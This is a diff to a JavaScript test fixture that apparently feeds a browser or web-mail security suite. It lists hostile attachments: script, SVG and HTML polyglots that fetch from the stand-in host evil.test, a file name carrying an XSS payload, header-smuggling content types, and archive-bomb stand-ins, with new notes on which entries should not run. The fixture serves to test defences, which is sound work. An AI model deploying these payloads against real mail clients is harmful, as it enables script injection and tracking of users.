@@ -1,5 +1,6 @@
 // Hostile attachments (W7): markup and scripts under every name and type that browsers or web mails have taken for something
-// else. Each tells the tracker its number when it runs.
+// else. Each tells the tracker its number when it runs; `harm: null` says of one that it does not, and `why` it is here
+// (control.test.mjs holds all others to it).
 
 const script = (n) => `fetch("http://evil.test/a${n}/ran")`;
 const page = (n) => `<!doctype html><script>${script(n)}</script><img src="http://evil.test/a${n}/i.png">`;
@@ -24,7 +25,7 @@ const ATTACHMENTS = [
   { type: 'image/png', body: svg, name: 'a.svg' },
   { type: 'text/xml', body: svg, name: 'a.svgz' },
   { type: 'application/xhtml+xml', body: xhtml, name: 'a.xht' },
-  { type: 'application/xml', body: xslt, name: 'a.xml' },
+  { type: 'application/xml', body: xslt, name: 'a.xml', harm: null, why: 'a style sheet of another host is not fetched by this browser; what is asserted is that nothing tries' },
   { type: 'text/javascript', body: script, name: 'a.js' },
   { type: 'application/javascript', body: script, name: 'a.js' },
   { type: 'application/ecmascript', body: script, name: 'a.png' },
@@ -39,9 +40,9 @@ const ATTACHMENTS = [
   { type: 'text/html', body: (n) => `${GIF}${page(n)}`, name: 'polyglot.gif' },
   { type: 'image/jpeg', body: (n) => `\xff\xd8\xff\xe0${page(n)}`, name: 'polyglot.jpg' },
   { type: 'application/pdf', body: (n) => `%PDF-1.4\n${page(n)}`, name: 'a.pdf' },
-  { type: 'application/manifest+json', body: () => '{}', name: 'manifest.json' },
-  { type: 'application/wasm', body: () => '\0asm\x01\0\0\0', name: 'a.wasm' },
-  { type: 'text/cache-manifest', body: () => 'CACHE MANIFEST', name: 'a.appcache' },
+  { type: 'application/manifest+json', body: () => '{}', name: 'manifest.json', harm: null, why: 'holds nothing that runs; what is asserted is the type that it is given with' },
+  { type: 'application/wasm', body: () => '\0asm\x01\0\0\0', name: 'a.wasm', harm: null, why: 'holds nothing that runs; what is asserted is the type that it is given with' },
+  { type: 'text/cache-manifest', body: () => 'CACHE MANIFEST', name: 'a.appcache', harm: null, why: 'no browser of today has that cache; what is asserted is the type that it is given with' },
   { type: 'application/x-mimearchive', body: (n) => `From: x\r\nContent-Type: text/html\r\n\r\n${page(n)}`, name: 'a.mht' },
   { type: 'multipart/related', body: (n) => `From: x\r\nContent-Type: text/html\r\n\r\n${page(n)}`, name: 'a.mhtml' },
   { type: 'text/html', body: page, name: '<img src=x onerror=alert(1)>.html' },
@@ -56,15 +57,16 @@ const ATTACHMENTS = [
   { type: 'text/html; name="a\\"b.html"', body: page },
   { type: 'text/html', body: page, heads: ['Content-Location: http://evil.test/base/'] },
   { type: 'image/png\n\tname=x', body: page, name: 'folded.png' },
-  { type: 'application/ms-tnef', body: () => '\x78\x9f\x3e\x22' + '\xff'.repeat(400), name: 'winmail.dat' },
-  { type: 'image/png', body: () => Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452ffffffffffffffff', 'hex'), Buffer.alloc(64)]).toString('latin1'), name: 'bomb.png' },
-  { type: 'application/zip', body: () => 'PK\x03\x04', name: 'a.zip' },
+  { type: 'application/ms-tnef', body: () => '\x78\x9f\x3e\x22' + '\xff'.repeat(400), name: 'winmail.dat', harm: null, why: 'a bomb for who unpacks it, and not for a browser' },
+  { type: 'image/png', body: () => Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452ffffffffffffffff', 'hex'), Buffer.alloc(64)]).toString('latin1'), name: 'bomb.png', harm: null, why: 'a bomb for who unpacks it, and not for a browser' },
+  { type: 'application/zip', body: () => 'PK\x03\x04', name: 'a.zip', harm: null, why: 'a bomb for who unpacks it, and not for a browser' },
 ];
 
-/** {number, type, body, name, heads} as `multipart` takes them. */
+/** {number, type, body, name, heads, harm, why} as `multipart` takes them. */
 export const attachments = ATTACHMENTS.map((one, number) => ({
   ...one,
   number,
   body: Buffer.from(one.body(number), 'latin1'),
   disposition: one.heads ? undefined : 'attachment',
+  harm: one.harm === null ? null : 'runs',
 }));
